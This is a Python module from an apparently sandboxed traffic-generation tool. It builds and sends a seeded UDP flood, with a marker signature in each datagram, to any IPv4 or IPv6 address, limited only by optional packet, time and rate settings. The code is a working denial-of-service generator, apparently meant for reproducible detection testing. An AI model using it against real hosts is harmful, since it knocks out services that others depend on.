"""Seeded UDP flood carrying the attack signature."""

from __future__ import annotations

import ipaddress
import threading
import time
from dataclasses import dataclass
from typing import Iterator, Optional, Protocol

import numpy as np
from scapy.config import conf
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import IPv6
from scapy.packet import Packet, Raw

from ..config.types import AttackConfig
from ..errors import AttackError
from ..utils.logging import get_logger

EPHEMERAL_PORTS = (49152, 65535)


class PacketSender(Protocol):
    def send(self, packet: Packet) -> None: ...

    def close(self) -> None: ...


class ScapySender:
    """Send layer-3 packets through one scapy socket for the whole run."""

    def __init__(self) -> None:
        self._socket = None
        self._lock = threading.Lock()

    def send(self, packet: Packet) -> None:
        with self._lock:
            if self._socket is None:
                self._socket = conf.L3socket6() if IPv6 in packet else conf.L3socket()
            self._socket.send(packet)

    def close(self) -> None:
        with self._lock:
            if self._socket is not None:
                self._socket.close()
                self._socket = None


@dataclass
class FloodStats:
    packets_sent: int
    elapsed: float
    stopped_early: bool = False


class UdpFlood:
    """Flood a target with UDP datagrams that start with the signature.

    The signature is the first thing in the UDP data, so it sits exactly one
    UDP header (``header_skip`` bytes) into the IP payload. The seed picks the
    source port and the padding after the signature, so a given seed always
    produces the same packet stream.
    """

    def __init__(self, config: AttackConfig, sender: Optional[PacketSender] = None) -> None:
        self.config = config
        self.signature = config.signature
        self.sender = sender if sender is not None else ScapySender()
        self._stop = threading.Event()
        self.logger = get_logger(__name__)

    def payloads(self) -> Iterator[tuple[int, bytes]]:
        """Yield ``(source_port, udp_data)`` pairs, deterministic for the seed."""

        rng = np.random.default_rng(self.config.seed)
        padding = self.config.payload_size - len(self.signature)
        while True:
            sport = int(rng.integers(EPHEMERAL_PORTS[0], EPHEMERAL_PORTS[1], endpoint=True))
            tail = rng.integers(0, 256, size=padding, dtype=np.uint8).tobytes()
            yield sport, self.signature + tail

    def build_packet(self, target: str, sport: int, data: bytes) -> Packet:
        network = IPv6(dst=target) if ipaddress.ip_address(target).version == 6 else IP(dst=target)
        return network / UDP(sport=sport, dport=self.config.target_port) / Raw(load=data)

    def stop(self) -> None:
        self._stop.set()

    def reset(self) -> None:
        """Re-arm a flood that an earlier session stopped."""

        self._stop.clear()

    @property
    def stopped(self) -> bool:
        return self._stop.is_set()

    def run(self, target: str) -> FloodStats:
        """Send packets to ``target`` until the packet or time budget is spent."""

        try:
            ipaddress.ip_address(target)
        except ValueError as exc:
            raise AttackError(f"Invalid target address: {target!r}") from exc

        budget = self.config.packet_count
        deadline = None if self.config.duration is None else time.monotonic() + self.config.duration
        interval = None if self.config.rate is None else 1.0 / self.config.rate
        self.logger.info(
            "flood_start",
            target=target,
            port=self.config.target_port,
            packet_count=budget,
            duration=self.config.duration,
            seed=self.config.seed,
        )
        started = time.monotonic()
        sent = 0
        try:
            for sport, data in self.payloads():
                if self._stop.is_set():
                    break
                if budget is not None and sent >= budget:
                    break
                if deadline is not None and time.monotonic() >= deadline:
                    break
                self.sender.send(self.build_packet(target, sport, data))
                sent += 1
                if interval is not None:
                    self._stop.wait(interval)
        except OSError as exc:
            raise AttackError(f"Could not send to {target} after {sent} packets: {exc}") from exc
        finally:
            self.sender.close()
        stats = FloodStats(packets_sent=sent, elapsed=time.monotonic() - started,
                           stopped_early=self._stop.is_set())
        self.logger.info("flood_done", target=target, packets_sent=sent,
                         elapsed=round(stats.elapsed, 3), stopped_early=stats.stopped_early)
        return stats


class AttackThread(threading.Thread):
    """Run a :class:`UdpFlood` concurrently with the sandbox command."""

    def __init__(self, flood: UdpFlood, target: str) -> None:
        super().__init__(name=f"udp-flood-{target}")
        self.flood = flood
        self.target = target
        self.stats: Optional[FloodStats] = None
        self.error: Optional[BaseException] = None

    def run(self) -> None:
        try:
            self.stats = self.flood.run(self.target)
        except Exception as exc:  # re-raised on join
            self.error = exc

    def stop(self) -> None:
        self.flood.stop()

    def join(self, timeout: Optional[float] = None) -> None:
        super().join(timeout)
        if self.is_alive():
            return
        if self.error is not None:
            if isinstance(self.error, AttackError):
                raise self.error
            raise AttackError(f"Attack generator failed: {self.error}") from self.error
